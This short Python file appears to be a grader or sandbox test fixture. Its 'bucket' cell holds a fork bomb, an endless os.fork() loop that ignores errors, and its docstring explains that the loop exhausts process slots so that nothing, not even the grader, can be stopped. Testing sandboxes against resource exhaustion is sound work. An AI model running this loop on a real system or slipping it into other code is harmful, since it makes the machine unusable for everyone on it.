"""Forks for ever, and so do the copies.

Without a limit on processes of its own the machine can start nothing any more, and no grader can
be ended by hand either.
"""

EARNS = 4
STOCK = "loses"
SOLVED = ("receipt",)
CELLS = {
    "bucket": """
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""
}
